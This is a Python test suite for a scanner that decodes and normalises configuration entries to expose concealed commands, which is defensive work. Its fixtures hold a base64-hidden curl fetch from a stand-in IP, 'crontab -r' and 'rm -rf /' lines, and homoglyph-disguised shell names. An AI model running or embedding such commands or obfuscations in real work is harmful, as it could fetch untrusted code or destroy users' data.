"""Claims about `herma.policy.entry.reading`."""

import base64

from herma.policy.entry.fields import Fields
from herma.policy.entry.reading import EntryReading, forms, render


def _read(**fields: object) -> EntryReading:
    return EntryReading.of(Fields.of(fields))


def test_an_entry_is_read_in_all_its_forms() -> None:
    """The command as it runs, what is encoded in it, variables that are scripts, and fields of other clients."""
    read = _read(
        command="bash",
        args=["-c", "echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi4xL2k= | base64 -d"],
        env={"A": "crontab -r; x", "B": "plain"},
        post=["y; z"],
    )
    assert "curl -s http://192.0.2.1/i" in read.decoded
    assert {"crontab -r", "y", "z"} <= set(read.lines)
    assert read.whole


def test_runs_that_are_cut_over_arguments_are_joined_for_programs() -> None:
    """Only a program puts its arguments together."""
    parts = ["Y3VybCAtcyBodHRw", "Oi8vMTkyLjAuMi4xL2k="]
    assert "curl -s http://192.0.2.1/i" in _read(command="sh", args=["-c", "x; y", *parts]).decoded
    assert _read(command="sh", args=["-c", "x", "y"]).whole
    assert "curl -s http://192.0.2.1/i" not in _read(command="x", args=parts).decoded


def test_look_alikes_and_split_commands_are_read_twice() -> None:
    """As they are written, and as they look; as one word, and as a line."""
    assert "curl x" in _read(command="bаsh", args=["-c", "сurl x"]).lines
    assert "sh -c x" in _read(command="sh -c x").lines
    assert _read(url="https://x").readings == ()


def test_paths_are_shown_as_written_and_resolved() -> None:
    """A second form is made only where it differs."""
    assert list(forms(["/etc/x", "/etc/../srv/x", "", "~root/x"])) == [
        "/etc/x",
        "/etc/../srv/x",
        "/srv/x",
        "~root/x",
        "~/x",
    ]
    assert list(forms(["~/x"])) == ["~/x"]
    assert render(["Aа", "b"]) == "aа\naa\nb"


def test_prose_for_a_model_is_told_and_not_run() -> None:
    """A sentence under such a name is no script, unless a word of the command names a variable."""
    text = "Please never run rm -rf / here."
    assert _read(command="uvx", args=["x"], env={"SYSTEM_PROMPT": text, "A": "b"}).told == (text,)
    assert _read(command="uvx", args=["x"], env={"SYSTEM_PROMPT": text}).readings[1:] == ()
    assert _read(command="sh", args=["-c", "$SYSTEM_PROMPT"], env={"SYSTEM_PROMPT": text}).told == ()
    assert _read(command="uvx", args=["x"], env={"SYSTEM_PROMPT": "rm -rf /"}).told == ()


def test_more_encoded_texts_than_are_read_are_told() -> None:
    """In one argument as in many; a few of them are read to their end."""
    coded = [base64.b64encode(f"echo hello number {at}".encode()).decode() for at in range(60)]
    assert _read(command="x", args=coded[:3]).whole
    assert not _read(command="x", args=coded).whole
    assert not _read(command="x", args=[" ".join(coded[:30])]).whole
